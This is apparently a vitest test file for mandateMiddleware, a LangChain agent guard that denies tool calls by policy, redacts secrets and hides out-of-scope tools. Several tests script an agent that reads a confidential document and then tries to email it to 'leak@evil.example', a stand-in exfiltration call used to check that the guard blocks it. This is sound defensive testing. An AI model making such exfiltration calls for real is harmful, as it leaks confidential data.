import { HumanMessage } from "@langchain/core/messages";
import { MemorySaver } from "@langchain/langgraph";
import { createAgent } from "langchain";
import { describe, expect, it, vi } from "vitest";
import { z } from "zod";
import { mandateMiddleware } from "../src/index.ts";
import { callTools, kindsFor, say, schemas, scripted, setup, spyTool, toolMessages } from "./helpers.ts";

const cfg = (thread: string) => ({ configurable: { thread_id: thread } });

describe("mandateMiddleware: enforcement", () => {
  it("denies by rule: the tool runs 0 times, the model reads the rule, the run finishes", async () => {
    const { guard, sink, mandate } = await setup();
    const readDoc = spyTool("read_doc", schemas.readDoc, () => "Q3 numbers: 42");
    const sendEmail = spyTool("send_email", schemas.sendEmail);
    const model = scripted(
      callTools("ai-1", [{ name: "read_doc", args: { id: "q3" }, id: "c_read" }]),
      callTools("ai-2", [
        { name: "send_email", args: { to: "leak@evil.example", body: "42" }, id: "c_mail" },
      ]),
      say("ai-3", "I could not send it."),
    );
    const agent = createAgent({
      model,
      tools: [readDoc.tool, sendEmail.tool],
      middleware: [mandateMiddleware({ guard })],
    });

    const out = await agent.invoke(
      { messages: [new HumanMessage("mail the q3 doc")], mandate },
      cfg("deny-1"),
    );

    expect(readDoc.fn).toHaveBeenCalledTimes(1);
    expect(sendEmail.fn).toHaveBeenCalledTimes(0);
    const denied = toolMessages(out.messages).find((m) => m.tool_call_id === "c_mail");
    expect(denied?.status).toBe("error");
    expect(denied?.content).toBe(
      'Mandate denied the call to "send_email" (rule: no-egress-after-confidential): confidential data was read in ' +
        "this task and may not leave it [POLICY_DENIED]. Do not retry this call; tell the user it was not permitted.",
    );
    expect(String(denied?.content)).not.toContain("leak@evil.example");
    expect(out.messages.at(-1)?.content).toBe("I could not send it.");
    expect(kindsFor(sink.events, "c_read")).toEqual(["tool.request", "tool.decision", "tool.result"]);
    expect(kindsFor(sink.events, "c_mail")).toEqual(["tool.request", "tool.decision"]);
    expect(JSON.stringify(sink.events)).not.toContain(mandate);
  });

  it("monitor mode: the call the policy denies runs, and the trace marks it as would-be denied", async () => {
    const { guard, sink, mandate } = await setup({ mode: "monitor" });
    const readDoc = spyTool("read_doc", schemas.readDoc, () => "Q3 numbers: 42");
    const sendEmail = spyTool("send_email", schemas.sendEmail);
    const model = scripted(
      callTools("ai-1", [{ name: "read_doc", args: { id: "q3" }, id: "c_read" }]),
      callTools("ai-2", [
        { name: "send_email", args: { to: "leak@evil.example", body: "42" }, id: "c_mail" },
      ]),
      say("ai-3", "Sent."),
    );
    const agent = createAgent({
      model,
      tools: [readDoc.tool, sendEmail.tool],
      middleware: [mandateMiddleware({ guard })],
    });
    const out = await agent.invoke(
      { messages: [new HumanMessage("mail the q3 doc")], mandate },
      cfg("mon-1"),
    );

    expect(sendEmail.fn).toHaveBeenCalledTimes(1);
    expect(toolMessages(out.messages).find((m) => m.tool_call_id === "c_mail")?.status).toBe("success");
    const decision = sink.events.find((e) => e.kind === "tool.decision" && e.callId === "c_mail");
    expect(decision).toMatchObject({
      effect: "allow",
      enforcedEffect: "deny",
      monitor: true,
      ruleIds: ["no-egress-after-confidential"],
    });
    expect(kindsFor(sink.events, "c_mail")).toEqual(["tool.request", "tool.decision", "tool.result"]);
  });

  it("a secret argument reaches neither the trace nor the model's denial, whatever the outcome", async () => {
    const { guard, sink, mandate } = await setup();
    const schema = z.object({ to: z.string(), body: z.string(), password: z.string() });
    const readDoc = spyTool("read_doc", schemas.readDoc, () => "Q3 numbers: 42");
    const sendEmail = spyTool("send_email", schema);
    const secret = "hunter2-SECRET-5f1c";
    const model = scripted(
      callTools("ai-1", [{ name: "read_doc", args: { id: "q3" }, id: "c_read" }]),
      callTools("ai-2", [
        { name: "send_email", args: { to: "a@evil.example", body: "42", password: secret }, id: "c_mail" },
      ]),
      say("ai-3", "Not sent."),
    );
    const agent = createAgent({
      model,
      tools: [readDoc.tool, sendEmail.tool],
      middleware: [mandateMiddleware({ guard })],
    });
    const out = await agent.invoke({ messages: [new HumanMessage("mail it")], mandate }, cfg("secret-1"));

    expect(sendEmail.fn).toHaveBeenCalledTimes(0);
    const request = sink.events.find((e) => e.kind === "tool.request" && e.callId === "c_mail");
    expect(String((request?.args as { preview?: string } | undefined)?.preview)).toContain(
      '"password":"[REDACTED]"',
    );
    expect(JSON.stringify(sink.events)).not.toContain(secret);
    for (const m of toolMessages(out.messages)) expect(String(m.content)).not.toContain(secret);
  });

  it("a tool that throws becomes an error ToolMessage and the run continues", async () => {
    const { guard, sink, mandate } = await setup();
    const flaky = spyTool("flaky", schemas.search, () => {
      throw new Error("backend down");
    });
    const model = scripted(
      callTools("ai-1", [{ name: "flaky", args: { q: "x" }, id: "c_flaky" }]),
      say("ai-2", "sorry"),
    );
    const agent = createAgent({ model, tools: [flaky.tool], middleware: [mandateMiddleware({ guard })] });

    const out = await agent.invoke({ messages: [new HumanMessage("go")], mandate }, cfg("throw-1"));

    expect(flaky.fn).toHaveBeenCalledTimes(1);
    const msg = toolMessages(out.messages)[0];
    expect(msg?.status).toBe("error");
    expect(msg?.content).toBe('Error: tool "flaky" failed: backend down');
    expect(out.messages.at(-1)?.content).toBe("sorry");
    expect(kindsFor(sink.events, "c_flaky")).toEqual(["tool.request", "tool.decision", "tool.error"]);
  });

  it("fails closed without a mandate: error ToolMessage with the code, tool 0 calls", async () => {
    const { guard } = await setup();
    const search = spyTool("search", schemas.search);
    const model = scripted(
      callTools("ai-1", [{ name: "search", args: { q: "x" }, id: "c1" }]),
      say("ai-2", "done"),
    );
    const agent = createAgent({ model, tools: [search.tool], middleware: [mandateMiddleware({ guard })] });

    const out = await agent.invoke({ messages: [new HumanMessage("go")] }, cfg("none-1"));

    expect(search.fn).toHaveBeenCalledTimes(0);
    const msg = toolMessages(out.messages)[0];
    expect(msg?.status).toBe("error");
    expect(msg?.content).toBe(
      'Mandate denied the call to "search": no mandate was presented for this agent [MANDATE_MALFORMED]. ' +
        "Do not retry this call; tell the user it was not permitted.",
    );
    expect(out.messages.at(-1)?.content).toBe("done");
  });

  it("denies under a revoked mandate with MANDATE_REVOKED, never printing the token", async () => {
    const { guard, mandate, authority } = await setup();
    await guard.revoke((await authority.verify(mandate)).jti);
    const search = spyTool("search", schemas.search);
    const model = scripted(
      callTools("ai-1", [{ name: "search", args: { q: "x" }, id: "c1" }]),
      say("ai-2", "done"),
    );
    const agent = createAgent({ model, tools: [search.tool], middleware: [mandateMiddleware({ guard })] });

    const out = await agent.invoke({ messages: [new HumanMessage("go")], mandate }, cfg("revoked-1"));

    expect(search.fn).toHaveBeenCalledTimes(0);
    const msg = toolMessages(out.messages)[0];
    expect(msg?.status).toBe("error");
    expect(msg?.content).toContain("[MANDATE_REVOKED]");
    expect(String(msg?.content)).not.toContain(mandate);
  });

  it("takes the mandate from context, and an agent's own mandate from `mandates[agentName]`", async () => {
    const { guard, sink, mandate, authority } = await setup();
    const child = await guard.delegate(mandate, {
      subject: "agent:researcher",
      scope: [{ tools: ["search"] }],
    });
    const childJti = (await authority.verify(child)).jti;
    const search = spyTool("search", schemas.search);
    const mk = () =>
      scripted(callTools("ai-1", [{ name: "search", args: { q: "x" }, id: "c_ctx" }]), say("ai-2", "done"));

    const viaContext = createAgent({
      model: mk(),
      tools: [search.tool],
      middleware: [mandateMiddleware({ guard })],
    });
    await viaContext.invoke(
      { messages: [new HumanMessage("go")] },
      { ...cfg("ctx-1"), context: { mandate } },
    );
    expect(search.fn).toHaveBeenCalledTimes(1);

    const researcher = createAgent({
      name: "researcher",
      model: mk(),
      tools: [search.tool],
      middleware: [mandateMiddleware({ guard })],
    });
    await researcher.invoke(
      { messages: [new HumanMessage("go")], mandate, mandates: { researcher: child } },
      cfg("child-1"),
    );
    expect(search.fn).toHaveBeenCalledTimes(2);
    const decision = sink.events.filter((e) => e.kind === "tool.decision" && e.callId === "c_ctx").at(-1);
    expect(decision).toMatchObject({ effect: "allow", jti: childJti, agent: "researcher" });
  });
});

describe("mandateMiddleware: hiding tools", () => {
  it("never binds an out-of-scope tool to the model", async () => {
    const { guard, mandate } = await setup({ scope: [{ tools: ["search"] }] });
    const search = spyTool("search", schemas.search);
    const sendEmail = spyTool("send_email", schemas.sendEmail);
    const model = scripted(say("ai-1", "hello"));
    const bindTools = vi.spyOn(model, "bindTools");
    const agent = createAgent({
      model,
      tools: [search.tool, sendEmail.tool],
      middleware: [mandateMiddleware({ guard })],
    });

    await agent.invoke({ messages: [new HumanMessage("hi")], mandate }, cfg("hide-1"));

    expect(bindTools).toHaveBeenCalled();
    for (const [tools] of bindTools.mock.calls) {
      expect(tools.map((t) => (t as { name: string }).name)).toEqual(["search"]);
    }
  });

  it("offers no tools at all without a mandate", async () => {
    const { guard } = await setup();
    const search = spyTool("search", schemas.search);
    const model = scripted(say("ai-1", "hello"));
    const bindTools = vi.spyOn(model, "bindTools");
    const agent = createAgent({ model, tools: [search.tool], middleware: [mandateMiddleware({ guard })] });

    await agent.invoke({ messages: [new HumanMessage("hi")] }, cfg("hide-2"));

    const offered = bindTools.mock.calls.flatMap(([tools]) => tools.map((t) => (t as { name: string }).name));
    expect(offered).toEqual([]);
  });

  it("hideTools: false offers every tool and adds no model hook; out-of-scope calls are still denied", async () => {
    const { guard, sink, mandate } = await setup({ scope: [{ tools: ["search"] }] });
    const search = spyTool("search", schemas.search);
    const sendEmail = spyTool("send_email", schemas.sendEmail);
    const model = scripted(
      callTools("ai-1", [{ name: "send_email", args: { to: "bob@acme.example", body: "hi" }, id: "c_out" }]),
      say("ai-2", "not sent"),
    );
    const bindTools = vi.spyOn(model, "bindTools");
    const middleware = mandateMiddleware({ guard, hideTools: false });
    // No pass-through wrapModelCall: LangChain would re-parse the state schema on every model call.
    expect(middleware.wrapModelCall).toBeUndefined();
    const agent = createAgent({ model, tools: [search.tool, sendEmail.tool], middleware: [middleware] });

    const out = await agent.invoke({ messages: [new HumanMessage("hi")], mandate }, cfg("hide-3"));

    expect(bindTools).toHaveBeenCalledTimes(2);
    for (const [tools] of bindTools.mock.calls) {
      expect(tools.map((t) => (t as { name: string }).name)).toEqual(["search", "send_email"]);
    }
    expect(sendEmail.fn).toHaveBeenCalledTimes(0);
    const denied = toolMessages(out.messages).find((m) => m.tool_call_id === "c_out");
    expect(denied?.status).toBe("error");
    expect(String(denied?.content)).toContain("[SCOPE_DENIED]");
    expect(kindsFor(sink.events, "c_out")).toEqual(["tool.request", "tool.decision"]);
    expect(out.messages.at(-1)?.content).toBe("not sent");
  });
});

describe("mandateMiddleware: options", () => {
  it("rejects misuse with a TypeError at construction", async () => {
    const { guard } = await setup();
    // @ts-expect-error deliberately wrong
    expect(() => mandateMiddleware({})).toThrow(
      new TypeError("mandateMiddleware() needs a `guard` (see createGuard)"),
    );
    // @ts-expect-error deliberately wrong
    expect(() => mandateMiddleware({ guard: { authorize: 1 } })).toThrow(TypeError);
    expect(() => mandateMiddleware({ guard, agentName: "" })).toThrow(
      new TypeError("`agentName` must be a non-empty string"),
    );
    // @ts-expect-error deliberately wrong
    expect(() => mandateMiddleware({ guard, approval: { mode: "ask" } })).toThrow(
      new TypeError('`approval.mode` must be "interrupt" or "deny"'),
    );
  });

  it('approval mode "deny" refuses calls that need approval with APPROVAL_REQUIRED', async () => {
    const { guard, mandate } = await setup();
    const transfer = spyTool("transfer_funds", schemas.transfer);
    const model = scripted(
      callTools("ai-1", [{ name: "transfer_funds", args: { amount: 5000, to: "acct" }, id: "c_t" }]),
      say("ai-2", "needs approval"),
    );
    const agent = createAgent({
      model,
      tools: [transfer.tool],
      middleware: [mandateMiddleware({ guard, approval: { mode: "deny" } })],
      checkpointer: new MemorySaver(),
    });
    const out = await agent.invoke({ messages: [new HumanMessage("pay")], mandate }, cfg("deny-approval"));
    expect(transfer.fn).toHaveBeenCalledTimes(0);
    expect(toolMessages(out.messages)[0]?.content).toContain("(rule: large-transfer-needs-approval)");
    expect(toolMessages(out.messages)[0]?.content).toContain("[APPROVAL_REQUIRED]");
  });
});
